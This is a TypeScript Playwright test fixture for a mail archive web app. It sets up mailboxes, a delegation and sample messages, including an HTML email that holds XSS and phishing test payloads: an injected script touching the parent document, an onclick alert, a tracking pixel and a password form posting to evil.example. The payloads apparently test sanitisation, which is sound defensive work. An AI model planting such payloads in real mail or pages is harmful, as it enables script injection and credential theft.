import { deepEqual } from 'node:assert/strict'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { launchChromium } from '../support/chromium.ts'
import { message } from '../support/message.ts'
import { PATIENCE } from '../support/patience.ts'
import { watched } from '../support/watched.ts'
import { type Person, startWorld, type World } from '../support/world.ts'

/** A world with mail to look at, and a browser. */
export interface Stage {
  readonly world: World
  readonly browser: Browser
  readonly marta: Person
  /** Number of the delegation that gives Marta info@. */
  readonly delegation: number
  /** A page signed in as somebody; steps that take longer than PATIENCE fail. */
  open(person: Person, path: string, options?: Parameters<Browser['newContext']>[0]): Promise<Page>
  /** Fails when something went wrong in a page that nobody looked at: see `watched`. */
  close(): Promise<void>
}

/** What the browser says of answers that tests ask for on purpose, and of requests that they hold back. */
const ASKED_FOR =
  /the server responded with a status of 4|net::ERR_(?:FAILED|INTERNET_DISCONNECTED|NAME_NOT_RESOLVED)/

/** Of the pictures in the HTML mail, which one test asks to see. */
const PICTURES = 'https://tracker.example'

const HTML = `From: Hafenblatt <news@hafenblatt.example>
To: info@lindhaven.example
Subject: Hafenblatt: der neue Fahrplan
Date: Mon, 23 Nov 2026 07:00:00 +0000
Message-ID: <news@hafenblatt.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: text/html; charset=utf-8

<html><body style="background:#eef"><h1>Fahrplan</h1><script>parent.document.title='stolen'</script>
<p onclick="alert(1)">Der neue <b>Fahrplan</b> gilt. <img src="https://tracker.example/pixel.gif"></p>
<form action="https://evil.example"><input name="password"></form></body></html>

--outer
Content-Type: text/plain; name="Notizen.txt"
Content-Disposition: attachment; filename="Notizen.txt"

Gleis 4 bleibt gesperrt.
--outer
Content-Type: text/csv
Content-Disposition: attachment; filename="Preise.csv"

Lindhaven;Visby;42
--outer--
`

/** Starts a server with two own archives and a delegated one, a conversation, HTML mail, attachments and marked mail. */
export async function stage(
  options: Pick<Parameters<typeof startWorld>[0] & object, 'forOutlook' | 'issuer'> = {},
): Promise<Stage> {
  const world = await startWorld({ now: Date.now(), ...options })
  await world.domain('lindhaven.example')
  await world.mailbox('info@lindhaven.example', 'shared')
  await world.mailbox('marta@lindhaven.example')
  const marta = await world.person('Marta Lindqvist', 'marta@lindhaven.example')
  const delegation = await world.delegate('marta@lindhaven.example', 'info@lindhaven.example', {
    reason: 'Shared mailbox',
  })
  for (let number = 1; number <= 60; number += 1) {
    const receivedAt = world.clock.now - number * 3_600_000
    await world.accept(
      message({
        subject: `Round ${number}`,
        to: 'marta@lindhaven.example',
        text: `Message number ${number}.`,
      }),
      ['marta@lindhaven.example'],
      { receivedAt },
    )
  }
  await world.accept(
    message({ subject: 'Fahrplan 2027', id: '<plan@print.example>' }),
    ['info@lindhaven.example'],
    { receivedAt: world.clock.now - 7_200_000 },
  )
  await world.accept(
    message({
      subject: 'AW: Fahrplan 2027',
      id: '<answer@print.example>',
      inReplyTo: '<plan@print.example>',
      references: '<plan@print.example>',
      text: 'Danke!\n\n> Der neue Fahrplan\n',
    }),
    ['info@lindhaven.example'],
    { receivedAt: world.clock.now - 3_600_000 },
  )
  await world.accept(HTML, ['info@lindhaven.example'], { receivedAt: world.clock.now - 60_000 })
  await world.accept(
    message({ subject: 'Salary', sensitivity: 'Private' }),
    ['info@lindhaven.example', 'marta@lindhaven.example'],
    { receivedAt: world.clock.now - 30_000 },
  )
  await world.archiveAccepted()
  await world.accept(message({ subject: 'On its way' }), ['marta@lindhaven.example'])
  const browser = await launchChromium()
  const wrong: string[][] = []

  return {
    world,
    browser,
    marta,
    delegation,
    open: async (person, path, options = {}) => {
      const context: BrowserContext = await browser.newContext({
        viewport: { width: 1440, height: 900 },
        ...options,
      })
      wrong.push(
        watched(context, new Set([world.url.origin, PICTURES]), { minds: (line) => !ASKED_FOR.test(line) }),
      )
      const [name, value] = person.headers.cookie!.split('=') as [string, string]
      await context.addCookies([{ name, value, url: world.url.href }])
      const page = await context.newPage()
      page.setDefaultTimeout(PATIENCE)
      await page.goto(new URL(path, world.url).href)
      return page
    },
    close: async () => {
      await browser.close()
      await world.close()
      deepEqual(wrong.flat(), [])
    },
  }
}
